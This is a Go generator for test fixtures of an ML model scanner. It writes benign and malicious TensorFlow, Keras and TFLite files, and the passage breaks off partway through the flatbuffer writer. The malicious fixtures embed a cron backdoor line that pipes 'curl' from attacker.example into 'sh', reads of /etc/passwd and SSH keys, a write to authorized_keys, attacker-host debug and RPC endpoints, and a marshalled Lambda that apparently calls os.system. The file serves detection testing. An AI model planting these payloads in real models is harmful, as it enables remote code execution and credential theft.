// Command gen writes the TensorFlow fixtures of internal/scan/tensorflow:
// SavedModel protobufs, Keras metadata protobufs and TFLite flatbuffers,
// byte by byte (TensorFlow is not installed where mlguard is built).
//
// Run from the package directory: go run ./testdata/gen
//
// Field numbers follow tensorflow/core/protobuf/{saved_model,meta_graph}.proto,
// tensorflow/core/framework/{graph,node_def,function,op_def,attr_value,tensor,
// tensor_shape}.proto, tf_keras/protobuf/saved_metadata.proto and
// tensorflow/compiler/mlir/lite/schema/schema.fbs; check.sh decodes every
// fixture with protoc and flatc against those schemas.
package main

import (
	"encoding/binary"
	"fmt"
	"os"
	"path/filepath"
	"sort"
)

func main() {
	out := "testdata"
	if len(os.Args) > 1 {
		out = os.Args[1]
	}
	files := map[string][]byte{
		"benign_saved_model.pb":           benignSavedModel(),
		"benign_tf1_saved_model.pb":       benignTF1SavedModel(),
		"malicious_pyfunc.pb":             savedModelWith(fn("__inference_call_17", pyFunc())),
		"malicious_file_io.pb":            savedModelWith(fn("__inference_call_23", readFile("/etc/passwd")...), writeFileMain()...),
		"malicious_save_const.pb":         savedModelWith(fn("__inference_call_31", constSave("/home/user/.bashrc")...)),
		"malicious_print_file.pb":         savedModelWith(fn("__inference_call_40", printToFile("file:///tmp/leak.txt")...)),
		"malicious_misc.pb":               savedModelWith(fn("__inference_call_52", miscOps()...)),
		"benign_keras_metadata.pb":        kerasMetadata(false),
		"malicious_keras_metadata.pb":     kerasMetadata(true),
		"benign.tflite":                   tflite(benignOps()),
		"benign_detection.tflite":         tflite(detectionOps()),
		"benign_flex.tflite":              tflite(flexOps("FlexAddV2", "AddV2", "AddV2", "")),
		"malicious_custom_op.tflite":      tflite(customOps("MyVendorOp")),
		"malicious_flex_readfile.tflite":  tflite(flexOps("FlexReadFile", "ReadFile", "ReadFile", "/etc/passwd")),
		"malicious_flex_disguised.tflite": tflite(flexOps("FlexAddV2", "WriteFile", "WriteFile", "/root/.ssh/authorized_keys")),
	}
	names := make([]string, 0, len(files))
	for n := range files {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		if err := os.WriteFile(filepath.Join(out, n), files[n], 0o644); err != nil {
			fmt.Fprintln(os.Stderr, err)
			os.Exit(1)
		}
		fmt.Printf("%-34s %6d bytes\n", n, len(files[n]))
	}
}

// ---- protobuf wire format ----

type enc []byte

func (e enc) tag(num, wt int) enc          { return binary.AppendUvarint(e, uint64(num)<<3|uint64(wt)) }
func (e enc) varint(num int, v uint64) enc { return binary.AppendUvarint(e.tag(num, 0), v) }
func (e enc) bytes(num int, b []byte) enc {
	return append(binary.AppendUvarint(e.tag(num, 2), uint64(len(b))), b...)
}
func (e enc) str(num int, s string) enc { return e.bytes(num, []byte(s)) }
func (e enc) msg(num int, m enc) enc    { return e.bytes(num, m) }
func (e enc) fixed32(num int, v uint32) enc {
	return binary.LittleEndian.AppendUint32(e.tag(num, 5), v)
}

// TensorFlow DataType values (types.proto).
const (
	dtFloat    = 1
	dtInt32    = 3
	dtString   = 7
	dtInt64    = 9
	dtBool     = 10
	dtResource = 20
)

// AttrValue builders: s 2, i 3, f 4, b 5, type 6, shape 7, tensor 8, list 1, func 10.
func attrS(s string) enc { return enc{}.str(2, s) }
func attrI(i int64) enc  { return enc{}.varint(3, uint64(i)) }
func attrB(b bool) enc {
	v := uint64(0)
	if b {
		v = 1
	}
	return enc{}.varint(5, v)
}
func attrType(t int) enc       { return enc{}.varint(6, uint64(t)) }
func attrFunc(name string) enc { return enc{}.msg(10, enc{}.str(1, name)) }
func attrListS(ss ...string) enc {
	l := enc{}
	for _, s := range ss {
		l = l.str(2, s)
	}
	return enc{}.msg(1, l)
}
func attrListType(ts ...int) enc {
	l := enc{}
	for _, t := range ts {
		l = l.varint(6, uint64(t))
	}
	return enc{}.msg(1, l)
}

// shape is a TensorShapeProto: dim 2 {size 1}.
func shape(dims ...int64) enc {
	s := enc{}
	for _, d := range dims {
		s = s.msg(2, enc{}.varint(1, uint64(d)))
	}
	return s
}
func attrShape(dims ...int64) enc { return enc{}.msg(7, shape(dims...)) }

// strTensor is a TensorProto of strings: dtype 1, tensor_shape 2, string_val 8.
func strTensor(ss ...string) enc {
	t := enc{}.varint(1, dtString)
	if len(ss) == 1 {
		t = t.msg(2, shape())
	} else {
		t = t.msg(2, shape(int64(len(ss))))
	}
	for _, s := range ss {
		t = t.str(8, s)
	}
	return t
}
func floatTensor(n int) enc {
	t := enc{}.varint(1, dtFloat).msg(2, shape(int64(n)))
	content := make([]byte, 4*n)
	return t.bytes(4, content)
}

type attr struct {
	key string
	val enc
}

// node is a NodeDef: name 1, op 2, input 3, device 4, attr 5.
func node(name, op string, inputs []string, attrs ...attr) enc {
	n := enc{}.str(1, name).str(2, op)
	for _, in := range inputs {
		n = n.str(3, in)
	}
	sort.Slice(attrs, func(i, j int) bool { return attrs[i].key < attrs[j].key })
	for _, a := range attrs {
		n = n.msg(5, enc{}.str(1, a.key).msg(2, a.val))
	}
	return n
}

func constStr(name string, ss ...string) enc {
	return node(name, "Const", nil, attr{"dtype", attrType(dtString)}, attr{"value", enc{}.msg(8, strTensor(ss...))})
}

// function is a FunctionDef: signature 1 (OpDef: name 1, input_arg 2 {name 1, type 3},
// output_arg 3, is_stateful 17?), node_def 3, ret 4.
type function struct {
	name  string
	args  []string
	nodes []enc
	ret   map[string]string
}

func fn(name string, nodes ...enc) function {
	return function{name: name, args: []string{"x"}, nodes: nodes}
}

func (f function) encode() enc {
	sig := enc{}.str(1, f.name)
	for _, a := range f.args {
		sig = sig.msg(2, enc{}.str(1, a).varint(3, dtFloat))
	}
	sig = sig.msg(3, enc{}.str(1, "identity").varint(3, dtFloat))
	out := enc{}.msg(1, sig)
	for _, n := range f.nodes {
		out = out.msg(3, n)
	}
	keys := make([]string, 0, len(f.ret))
	for k := range f.ret {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		out = out.msg(4, enc{}.str(1, k).str(2, f.ret[k]))
	}
	return out
}

// graphDef is a GraphDef: node 1, library 2 (function 1), versions 4 (producer 1).
func graphDef(nodes []enc, fns ...function) enc {
	g := enc{}
	for _, n := range nodes {
		g = g.msg(1, n)
	}
	if len(fns) > 0 {
		lib := enc{}
		for _, f := range fns {
			lib = lib.msg(1, f.encode())
		}
		g = g.msg(2, lib)
	}
	return g.msg(4, enc{}.varint(1, 1645))
}

// metaGraph is a MetaGraphDef: meta_info_def 1 (tags 4, tensorflow_version 5,
// tensorflow_git_version 6), graph_def 2, saver_def 3, signature_def 5,
// asset_file_def 6 (tensor_info 1 {name 1}, filename 2).
func metaGraph(graph enc, assets map[string]string, saver enc) enc {
	info := enc{}.str(4, "serve").str(5, "2.15.0").str(6, "v2.15.0-rc1-8-g6887368d6d4")
	m := enc{}.msg(1, info).msg(2, graph)
	if saver != nil {
		m = m.msg(3, saver)
	}
	// signature_def {key: "serving_default", value {inputs {x}, outputs {y}, method_name}}
	ti := func(name string) enc { return enc{}.str(1, name).varint(2, dtFloat).msg(3, shape(-1, 4)) }
	sig := enc{}.msg(1, enc{}.str(1, "x").msg(2, ti("serving_default_x:0"))).
		msg(2, enc{}.str(1, "output_0").msg(2, ti("StatefulPartitionedCall:0"))).
		str(3, "tensorflow/serving/predict")
	m = m.msg(5, enc{}.str(1, "serving_default").msg(2, sig))
	keys := make([]string, 0, len(assets))
	for k := range assets {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	for _, k := range keys {
		m = m.msg(6, enc{}.msg(1, enc{}.str(1, k)).str(2, assets[k]))
	}
	return m
}

// savedModel is a SavedModel: saved_model_schema_version 1, meta_graphs 2.
func savedModel(metas ...enc) []byte {
	s := enc{}.varint(1, 1)
	for _, m := range metas {
		s = s.msg(2, m)
	}
	return s
}

// tf2Main is the main graph of a TF2 SavedModel of a small Keras model:
// the serving input, two variables, the call, and the saver wiring that
// feeds the checkpoint path from the saver_filename placeholder.
func tf2Main(extra ...enc) []enc {
	nodes := []enc{
		node("serving_default_x", "Placeholder", nil, attr{"dtype", attrType(dtFloat)}, attr{"shape", attrShape(-1, 4)}),
		node("dense/kernel", "VarHandleOp", nil, attr{"dtype", attrType(dtFloat)}, attr{"shape", attrShape(4, 8)},
			attr{"shared_name", attrS("dense/kernel")}, attr{"container", attrS("")}),
		node("dense/bias", "VarHandleOp", nil, attr{"dtype", attrType(dtFloat)}, attr{"shape", attrShape(8)},
			attr{"shared_name", attrS("dense/bias")}, attr{"container", attrS("")}),
		node("StatefulPartitionedCall", "StatefulPartitionedCall", []string{"serving_default_x", "dense/kernel", "dense/bias"},
			attr{"f", attrFunc("__inference_signature_wrapper_81")}, attr{"Tin", attrListType(dtFloat, dtResource, dtResource)},
			attr{"Tout", attrListType(dtFloat)}),
		node("saver_filename", "Placeholder", nil, attr{"dtype", attrType(dtString)}, attr{"shape", attrShape()}),
		node("StatefulPartitionedCall_1", "StatefulPartitionedCall", []string{"saver_filename", "dense/kernel", "dense/bias"},
			attr{"f", attrFunc("__inference__traced_save_120")}, attr{"Tin", attrListType(dtString, dtResource, dtResource)},
			attr{"Tout", attrListType(dtString)}),
		node("StatefulPartitionedCall_2", "StatefulPartitionedCall", []string{"saver_filename", "dense/kernel", "dense/bias"},
			attr{"f", attrFunc("__inference__traced_restore_140")}, attr{"Tin", attrListType(dtString, dtResource, dtResource)},
			attr{"Tout", attrListType(dtString)}),
	}
	return append(nodes, extra...)
}

// tf2Functions are the library of that model: the call, and the traced
// save and restore functions that every TF2 SavedModel carries.
func tf2Functions() []function {
	call := function{name: "__inference_signature_wrapper_81", args: []string{"x", "matmul_readvariableop_resource", "biasadd_readvariableop_resource"},
		nodes: []enc{
			node("MatMul/ReadVariableOp", "ReadVariableOp", []string{"matmul_readvariableop_resource"}, attr{"dtype", attrType(dtFloat)}),
			node("MatMul", "MatMul", []string{"x", "MatMul/ReadVariableOp:value:0"}, attr{"T", attrType(dtFloat)}),
			node("BiasAdd/ReadVariableOp", "ReadVariableOp", []string{"biasadd_readvariableop_resource"}, attr{"dtype", attrType(dtFloat)}),
			node("BiasAdd", "BiasAdd", []string{"MatMul:product:0", "BiasAdd/ReadVariableOp:value:0"}, attr{"T", attrType(dtFloat)}),
			node("Relu", "Relu", []string{"BiasAdd:output:0"}, attr{"T", attrType(dtFloat)}),
			node("PrintV2", "PrintV2", []string{"Relu:activations:0"}, attr{"output_stream", attrS("stderr")}, attr{"end", attrS("\n")}),
			node("Identity", "Identity", []string{"Relu:activations:0"}, attr{"T", attrType(dtFloat)}),
		}, ret: map[string]string{"identity": "Identity:output:0"}}
	save := function{name: "__inference__traced_save_120", args: []string{"file_prefix", "savev2_dense_kernel", "savev2_dense_bias"},
		nodes: []enc{
			constStr("StaticRegexFullMatch/pattern", "^s3://.*"),
			node("StaticRegexFullMatch", "StaticRegexFullMatch", []string{"file_prefix"}, attr{"pattern", attrS("^s3://.*")}),
			constStr("Const", ".part"),
			constStr("Const_1", "_temp/part"),
			node("Select", "Select", []string{"StaticRegexFullMatch:output:0", "Const:output:0", "Const_1:output:0"}, attr{"T", attrType(dtString)}),
			node("StringJoin", "StringJoin", []string{"file_prefix", "Select:output:0"}, attr{"N", attrI(2)}),
			node("num_shards", "Const", nil, attr{"dtype", attrType(dtInt32)}, attr{"value", enc{}.msg(8, enc{}.varint(1, dtInt32).msg(2, shape()).varint(7, 2))}),
			node("ShardedFilename/shard", "Const", nil, attr{"dtype", attrType(dtInt32)}, attr{"value", enc{}.msg(8, enc{}.varint(1, dtInt32).msg(2, shape()).varint(7, 0))}),
			node("ShardedFilename", "ShardedFilename", []string{"StringJoin:output:0", "ShardedFilename/shard:output:0", "num_shards:output:0"}),
			constStr("SaveV2/tensor_names", "layer_with_weights-0/kernel/.ATTRIBUTES/VARIABLE_VALUE", "layer_with_weights-0/bias/.ATTRIBUTES/VARIABLE_VALUE"),
			constStr("SaveV2/shape_and_slices", "", ""),
			node("SaveV2", "SaveV2", []string{"ShardedFilename:filename:0", "SaveV2/tensor_names:output:0", "SaveV2/shape_and_slices:output:0", "savev2_dense_kernel", "savev2_dense_bias"},
				attr{"dtypes", attrListType(dtFloat, dtFloat)}),
			node("MergeV2Checkpoints/checkpoint_prefixes", "Pack", []string{"ShardedFilename:filename:0", "^SaveV2"}, attr{"N", attrI(1)}, attr{"T", attrType(dtString)}),
			node("MergeV2Checkpoints", "MergeV2Checkpoints", []string{"MergeV2Checkpoints/checkpoint_prefixes:output:0", "file_prefix"},
				attr{"delete_old_dirs", attrB(true)}),
			node("Identity", "Identity", []string{"file_prefix", "^MergeV2Checkpoints"}, attr{"T", attrType(dtString)}),
		}, ret: map[string]string{"identity": "Identity:output:0"}}
	restore := function{name: "__inference__traced_restore_140", args: []string{"file_prefix", "assignvariableop_dense_kernel", "assignvariableop_dense_bias"},
		nodes: []enc{
			constStr("RestoreV2/tensor_names", "layer_with_weights-0/kernel/.ATTRIBUTES/VARIABLE_VALUE", "layer_with_weights-0/bias/.ATTRIBUTES/VARIABLE_VALUE"),
			constStr("RestoreV2/shape_and_slices", "", ""),
			node("RestoreV2", "RestoreV2", []string{"file_prefix", "RestoreV2/tensor_names:output:0", "RestoreV2/shape_and_slices:output:0"},
				attr{"dtypes", attrListType(dtFloat, dtFloat)}),
			node("AssignVariableOp", "AssignVariableOp", []string{"assignvariableop_dense_kernel", "RestoreV2:tensors:0"}, attr{"dtype", attrType(dtFloat)}),
			node("AssignVariableOp_1", "AssignVariableOp", []string{"assignvariableop_dense_bias", "RestoreV2:tensors:1"}, attr{"dtype", attrType(dtFloat)}),
			node("Identity", "Identity", []string{"file_prefix", "^AssignVariableOp", "^AssignVariableOp_1"}, attr{"T", attrType(dtString)}),
		}, ret: map[string]string{"identity": "Identity:output:0"}}
	// A vocabulary lookup whose file is a captured asset: the path is an argument.
	lookup := function{name: "__inference_lookup_init_60", args: []string{"asset_path", "table_handle"},
		nodes: []enc{
			node("InitializeTableFromTextFileV2", "InitializeTableFromTextFileV2", []string{"table_handle", "asset_path"},
				attr{"key_index", attrI(-2)}, attr{"value_index", attrI(-1)}, attr{"delimiter", attrS("\t")}),
		}}
	return []function{call, save, restore, lookup}
}

func benignSavedModel() []byte {
	return savedModel(metaGraph(graphDef(tf2Main(), tf2Functions()...), nil, nil))
}

// benignTF1SavedModel is a TF1 Estimator-style export: variables, a
// vocabulary table whose path is a registered asset, and the tf.train.Saver
// subgraph with its PlaceholderWithDefault filename.
func benignTF1SavedModel() []byte {
	nodes := []enc{
		node("input_example_tensor", "Placeholder", nil, attr{"dtype", attrType(dtString)}, attr{"shape", attrShape(-1)}),
		node("w", "VariableV2", nil, attr{"dtype", attrType(dtFloat)}, attr{"shape", attrShape(10, 3)}, attr{"container", attrS("")}, attr{"shared_name", attrS("")}),
		node("w/read", "Identity", []string{"w"}, attr{"T", attrType(dtFloat)}),
		node("hash_table", "HashTableV2", nil, attr{"key_dtype", attrType(dtString)}, attr{"value_dtype", attrType(dtInt64)}, attr{"shared_name", attrS("hash_table_vocab")}),
		constStr("asset_path", "/tmp/export_dir/assets/vocab.txt"),
		node("hash_table/table_init", "InitializeTableFromTextFileV2", []string{"hash_table", "asset_path"},
			attr{"key_index", attrI(-2)}, attr{"value_index", attrI(-1)}, attr{"vocab_size", attrI(-1)}),
		node("hash_table_Lookup", "LookupTableFindV2", []string{"hash_table", "input_example_tensor", "default"}, attr{"Tin", attrType(dtString)}, attr{"Tout", attrType(dtInt64)}),
		constStr("save/filename/input", "model"),
		node("save/filename", "PlaceholderWithDefault", []string{"save/filename/input"}, attr{"dtype", attrType(dtString)}, attr{"shape", attrShape()}),
		node("save/Const", "PlaceholderWithDefault", []string{"save/filename"}, attr{"dtype", attrType(dtString)}, attr{"shape", attrShape()}),
		constStr("save/StringJoin/inputs_1", "_temp_8e9a/part"),
		node("save/StringJoin", "StringJoin", []string{"save/Const", "save/StringJoin/inputs_1"}, attr{"N", attrI(2)}, attr{"separator", attrS("")}),
		node("save/ShardedFilename", "ShardedFilename", []string{"save/StringJoin", "save/ShardedFilename/shard", "save/num_shards"}),
		constStr("save/SaveV2/tensor_names", "w"),
		constStr("save/SaveV2/shape_and_slices", ""),
		node("save/SaveV2", "SaveV2", []string{"save/ShardedFilename", "save/SaveV2/tensor_names", "save/SaveV2/shape_and_slices", "w"}, attr{"dtypes", attrListType(dtFloat)}),
		node("save/MergeV2Checkpoints/checkpoint_prefixes", "Pack", []string{"save/ShardedFilename", "^save/SaveV2"}, attr{"N", attrI(1)}, attr{"T", attrType(dtString)}),
		node("save/MergeV2Checkpoints", "MergeV2Checkpoints", []string{"save/MergeV2Checkpoints/checkpoint_prefixes", "save/Const"}, attr{"delete_old_dirs", attrB(true)}),
		node("save/RestoreV2", "RestoreV2", []string{"save/Const", "save/SaveV2/tensor_names", "save/SaveV2/shape_and_slices"}, attr{"dtypes", attrListType(dtFloat)}),
		node("save/Assign", "Assign", []string{"w", "save/RestoreV2"}, attr{"T", attrType(dtFloat)}),
	}
	// SaverDef: filename_tensor_name 1, save_tensor_name 2, restore_op_name 3, sharded 5, version 7 (V2).
	saver := enc{}.str(1, "save/Const:0").str(2, "save/Identity:0").str(3, "save/restore_all").varint(5, 1).varint(7, 2)
	return savedModel(metaGraph(graphDef(nodes), map[string]string{"asset_path:0": "vocab.txt"}, saver))
}

// savedModelWith is the benign TF2 model plus a malicious function called
// from the main graph, and extra main graph nodes.
func savedModelWith(f function, mainExtra ...enc) []byte {
	call := node("StatefulPartitionedCall_3", "StatefulPartitionedCall", []string{"serving_default_x"},
		attr{"f", attrFunc(f.name)}, attr{"Tin", attrListType(dtFloat)}, attr{"Tout", attrListType(dtFloat)})
	main := tf2Main(append([]enc{call}, mainExtra...)...)
	return savedModel(metaGraph(graphDef(main, append(tf2Functions(), f)...), nil, nil))
}

// pyFunc is what tf.py_function leaves in a graph.
func pyFunc() enc {
	return node("EagerPyFunc", "EagerPyFunc", []string{"x"}, attr{"token", attrS("pyfunc_0")},
		attr{"Tin", attrListType(dtFloat)}, attr{"Tout", attrListType(dtFloat)}, attr{"is_async", attrB(false)})
}

func readFile(path string) []enc {
	return []enc{
		constStr("ReadFile/filename", path),
		node("ReadFile", "ReadFile", []string{"ReadFile/filename:output:0"}),
	}
}

func writeFileMain() []enc {
	return []enc{
		constStr("WriteFile/filename", "/etc/cron.d/backdoor"),
		constStr("WriteFile/contents", "* * * * * root curl -s http://attacker.example/x | sh\n"),
		node("WriteFile", "WriteFile", []string{"WriteFile/filename", "WriteFile/contents"}),
	}
}

// constSave is tf.raw_ops.SaveV2 with a constant prefix, as in the
// TensorAbuse write primitive.
func constSave(prefix string) []enc {
	return []enc{
		constStr("SaveV2/prefix", prefix),
		constStr("SaveV2/tensor_names", "payload"),
		constStr("SaveV2/shape_and_slices", ""),
		node("SaveV2", "SaveV2", []string{"SaveV2/prefix:output:0", "SaveV2/tensor_names:output:0", "SaveV2/shape_and_slices:output:0", "x"}, attr{"dtypes", attrListType(dtFloat)}),
	}
}

func printToFile(url string) []enc {
	return []enc{
		node("StringFormat", "StringFormat", []string{"x"}, attr{"template", attrS("{}")}, attr{"T", attrListType(dtFloat)}),
		node("PrintV2", "PrintV2", []string{"StringFormat:output:0"}, attr{"output_stream", attrS(url)}, attr{"end", attrS("\n")}),
	}
}

func miscOps() []enc {
	return []enc{
		constStr("MatchingFiles/pattern", "/home/*/.ssh/*"),
		node("MatchingFiles", "MatchingFiles", []string{"MatchingFiles/pattern:output:0"}),
		node("DebugIdentity", "DebugIdentity", []string{"x"}, attr{"T", attrType(dtFloat)},
			attr{"debug_urls", attrListS("grpc://attacker.example:6064")}, attr{"tensor_name", attrS("x:0")}),
		node("DebugIdentity_quiet", "DebugIdentity", []string{"x"}, attr{"T", attrType(dtFloat)}, attr{"debug_urls", attrListS()}),
		node("ImmutableConst", "ImmutableConst", nil, attr{"dtype", attrType(dtFloat)}, attr{"shape", attrShape(16)},
			attr{"memory_region_name", attrS("/proc/self/environ")}),
		node("RpcClient", "RpcClient", []string{"server_address:output:0", "timeout:output:0"}, attr{"shared_name", attrS("c")}),
		constStr("server_address", "attacker.example:9000"),
		node("table", "HashTableV2", nil, attr{"key_dtype", attrType(dtString)}, attr{"value_dtype", attrType(dtInt64)}),
		constStr("vocab", "/etc/passwd"),
		node("InitializeTableFromTextFileV2", "InitializeTableFromTextFileV2", []string{"table:table_handle:0", "vocab:output:0"},
			attr{"key_index", attrI(-2)}, attr{"value_index", attrI(-1)}),
	}
}

// ---- Keras metadata ----

// kerasMetadata is a SavedMetadata: nodes 1, each a SavedObject with
// node_id 2, node_path 3, identifier 4, metadata 5, version 6
// (producer 1, min_consumer 2).
func kerasMetadata(malicious bool) []byte {
	dense := `{"name": "dense", "trainable": true, "expects_training_arg": false, "dtype": "float32", "batch_input_shape": null, "stateful": false, "must_restore_from_config": false, "preserve_input_structure_in_config": false, "autocast": true, "class_name": "Dense", "config": {"name": "dense", "trainable": true, "dtype": "float32", "units": 8, "activation": "relu", "use_bias": true, "kernel_initializer": {"class_name": "GlorotUniform", "config": {"seed": null}}, "bias_initializer": {"class_name": "Zeros", "config": {}}, "kernel_regularizer": null, "bias_regularizer": null, "activity_regularizer": null, "kernel_constraint": null, "bias_constraint": null}, "input_spec": {"class_name": "InputSpec", "config": {"dtype": null, "shape": null, "ndim": null, "max_ndim": null, "min_ndim": 2, "axes": {"-1": 4}}}, "build_input_shape": {"class_name": "TensorShape", "items": [null, 4]}}`
	add := `{"name": "tf.math.add", "trainable": true, "expects_training_arg": false, "dtype": "float32", "batch_input_shape": null, "stateful": false, "must_restore_from_config": false, "class_name": "TFOpLambda", "config": {"name": "tf.math.add", "trainable": true, "dtype": "float32", "function": "math.add"}}`
	layers := `[{"class_name": "InputLayer", "config": {"batch_input_shape": [null, 4], "dtype": "float32", "sparse": false, "ragged": false, "name": "x"}, "name": "x", "inbound_nodes": []}, {"class_name": "Dense", "config": {"name": "dense", "units": 8, "activation": "relu"}, "name": "dense", "inbound_nodes": [[["x", 0, 0, {}]]]}, {"class_name": "TFOpLambda", "config": {"name": "tf.math.add", "trainable": true, "dtype": "float32", "function": "math.add"}, "name": "tf.math.add", "inbound_nodes": [["dense", 0, 0, {"y": 1.0, "name": null}]]}`
	nodes := []struct{ path, id, meta string }{
		{"root.layer-0", "_tf_keras_input_layer", `{"class_name": "InputLayer", "name": "x", "dtype": "float32", "sparse": false, "ragged": false, "batch_input_shape": {"class_name": "__tuple__", "items": [null, 4]}, "config": {"batch_input_shape": {"class_name": "__tuple__", "items": [null, 4]}, "dtype": "float32", "sparse": false, "ragged": false, "name": "x"}}`},
		{"root.layer_with_weights-0", "_tf_keras_layer", dense},
		{"root.layer-2", "_tf_keras_layer", add},
	}
	if malicious {
		// An older tf.keras Lambda: func_dump of a lambda that runs a shell command.
		lambda := `{"name": "lambda", "trainable": true, "expects_training_arg": false, "dtype": "float32", "batch_input_shape": null, "stateful": false, "must_restore_from_config": false, "class_name": "Lambda", "config": {"name": "lambda", "trainable": true, "dtype": "float32", "function": ["4wEAAAAAAAAAAAAAAAEAAAAEAAAAQwAAAHMOAAAAdABkAYMBoAF8AKEBUwApAk7aAm9zKQLaCl9faW1wb3J0X1/aBnN5c3RlbSkB2gF4qQByBAAAAPoIPHN0ZGluPtoIPGxhbWJkYT4BAAAA8wAAAAA=", null, null], "function_type": "lambda", "module": "__main__", "output_shape": null, "output_shape_type": "raw", "output_shape_module": null, "arguments": {}}}`
		write := `{"name": "tf.io.write_file", "trainable": true, "class_name": "TFOpLambda", "config": {"name": "tf.io.write_file", "trainable": true, "dtype": "float32", "function": "io.write_file"}}`
		nodes = append(nodes,
			struct{ path, id, meta string }{"root.layer-3", "_tf_keras_layer", lambda},
			struct{ path, id, meta string }{"root.layer-4", "_tf_keras_layer", write})
		layers += `, {"class_name": "Lambda", "config": {"name": "lambda", "function": ["4wEAAAAAAAAAAAAAAAEAAAAEAAAAQwAAAHMOAAAAdABkAYMBoAF8AKEBUwApAk7aAm9zKQLaCl9faW1wb3J0X1/aBnN5c3RlbSkB2gF4qQByBAAAAPoIPHN0ZGluPtoIPGxhbWJkYT4BAAAA8wAAAAA=", null, null], "function_type": "lambda"}, "name": "lambda", "inbound_nodes": [[["tf.math.add", 0, 0, {}]]]}`
		// A second Lambda only in the model's config, calling a named function.
		layers += `, {"class_name": "Lambda", "config": {"name": "lambda_1", "function": {"class_name": "__lambda__", "config": {"code": "4wEAAAAAAAAAAAAAAAEAAAADAAAAQwAAAHMIAAAAfABkARQAUwApAk7pAgAAAKkAKQHaAXhyAQAAAHIBAAAA+gg8c3RkaW4+2gg8bGFtYmRhPgEAAABzAAAAAA==", "defaults": null, "closure": null}}}, "name": "lambda_1", "inbound_nodes": [[["lambda", 0, 0, {}]]]}`
	}
	layers += "]"
	root := `{"name": "model", "trainable": true, "expects_training_arg": true, "dtype": "float32", "batch_input_shape": null, "must_restore_from_config": false, "preserve_input_structure_in_config": false, "autocast": false, "class_name": "Functional", "config": {"name": "model", "trainable": true, "layers": ` + layers + `, "input_layers": [["x", 0, 0]], "output_layers": [["tf.math.add", 0, 0]]}, "shared_object_id": 4, "input_spec": [{"class_name": "InputSpec", "config": {"dtype": null, "shape": {"class_name": "__tuple__", "items": [null, 4]}, "ndim": 2, "max_ndim": null, "min_ndim": null, "axes": {}}}], "build_input_shape": {"class_name": "TensorShape", "items": [null, 4]}, "is_graph_network": true, "full_save_spec": {"class_name": "__tuple__", "items": [[{"class_name": "TypeSpec", "type_spec": "tf.TensorSpec", "serialized": [{"class_name": "TensorShape", "items": [null, 4]}, "float32", "x"]}], {}]}, "save_spec": {"class_name": "TypeSpec", "type_spec": "tf.TensorSpec", "serialized": [{"class_name": "TensorShape", "items": [null, 4]}, "float32", "x"]}, "keras_version": "2.15.0", "backend": "tensorflow", "model_config": {"class_name": "Functional", "config": {"name": "model", "layers": ` + layers + `}}}`
	all := append([]struct{ path, id, meta string }{{"root", "_tf_keras_network", root}}, nodes...)
	out := enc{}
	for i, n := range all {
		obj := enc{}.varint(2, uint64(i)).str(3, n.path).str(4, n.id).str(5, n.meta).msg(6, enc{}.varint(1, 2).varint(2, 1))
		out = out.msg(1, obj)
	}
	return out
}

// ---- TFLite flatbuffers ----

// Flatbuffer values for the writer below.
type (
	fU8     uint8
	fI32    int32
	fU32    uint32
	fU64    uint64
	fStr    string
	fBytes  []byte // [ubyte], aligned to 16 as schema.fbs forces for buffers
	fI32s   []int32
	fTables []*tbl
)

type field struct {
	idx int
	v   any
}

// tbl is a table: its fields by vtable index.
type tbl []field

// fbw writes a flatbuffer front to back: a table's vtable, then the table,
// then the objects it refers to, so that every uoffset points forward.
type fbw struct{ buf []byte }

func (w *fbw) pad(n int) {
	for len(w.buf)%n != 0 {
		w.buf = append(w.buf, 0)
	}
}

func (w *fbw) putU32(at int, v uint32) { binary.LittleEndian.PutUint32(w.buf[at:], v) }

func inlineSize(v any) int {
	switch v.(type) {
	case fU8:
		return 1
	case fU64:
		return 8
	}
	return 4
}

// table writes t and everything below it; it returns the table's position.
func (w *fbw) table(t *tbl) int {
	fields := append(tbl(nil), (*t)...)
	sort.SliceStable(fields, func(i, j int) bool { return inlineSize(fields[i].v) > inlineSize(fields[j].v) })
	nslots := 0
	for _, f := range fields {
		nslots = max(nslots, f.idx+1)
	}
	// Table layout: soffset, then the fields, largest first, aligned.
	pos := 4
	offs := make(map[int]int)
	for _, f := range fields {
		s := inlineSize(f.v)
		for pos%s != 0 {
			pos++
		}
		offs[f.idx] = pos
		pos += s
	}
	size := pos
	for size%4 != 0 {
		size++
	}
	// vtable
	w.pad(2)
	vt := len(w.buf)
	w.buf = binary.LittleEndian.AppendUint16(w.buf, uint16(4+2*nslots))
	w.buf = binary.LittleEndian.AppendUint16(w.buf, uint16(size))
	for i := 0; i < nslots; i++ {
		w.buf = binary.LittleEndian.AppendUint16(w.buf, uint16(offs[i]))
	}
	w.pad(8)
	tp := len(w.buf)
	w.buf = append(w.buf, make([]byte, size)...)
	binary.LittleEndian.PutUint32(w.buf[tp:], uint32(int32(tp-vt)))
	type pending struct {
		slot int
		v    any
	}
	var later []pending
	for _, f := range fields {
		at := tp + offs[f.idx]
		switch v := f.v.(type) {
		case fU8:
			w.buf[at] = byte(v)
		case fI32:
			w.putU32(at, uint32(v))
		case fU32:
			w.putU32(at, uint32(v))
		case fU64:
			binary.LittleEndian.PutUint64(w.buf[at:], uint64(v))
		default:
			later = append(later, pending{at, v})
		}
	}
	for _, p := range later {
		target := w.object(p.v)
		w.putU32(p.slot, uint32(target-p.slot))
	}
	return tp
}

// object writes a string, vector or table and returns where it starts
// (for vectors and strings, the length prefix).
func (w *fbw) object(v any) int {
	switch v := v.(type) {
	case fStr:
		w.pad(4)
		at := len(w.buf)
		w.buf = binary.LittleEndian.AppendUint32(w.buf, uint32(len(v)))
		w.buf = append(append(w.buf, v...), 0)
		return at
	case fBytes:
		for (len(w.buf)+4)%16 != 0 {
			w.buf = append(w.buf, 0)
		}
		at := len(w.buf)
		w.buf = binary.LittleEndian.AppendUint32(w.buf, uint32(len(v)))
		w.buf = append(w.buf, v...)
		return at
	case fI32s:
		w.pad(4)
		at := len(w.buf)
		w.buf = binary.LittleEndian.AppendUint32(w.buf, uint32(len(v)))
		for _, x := range v {
			w.buf = binary.LittleEndian.AppendUint32(w.buf, uint32(x))
		}
		return at
	case fTables:
		w.pad(4)
		at := len(w.buf)
		w.buf = binary.LittleEndian.AppendUint32(w.buf, uint32(len(v)))
		slots := len(w.buf)
		w.buf = append(w.buf, make([]byte, 4*len(v))...)
		for i, t := range v {
			tp := w.table(t)
			w.putU32(slots+4*i, uint32(tp-(slots+4*i)))
		}
		return at
	case *tbl:
		return w.table(v)
	}
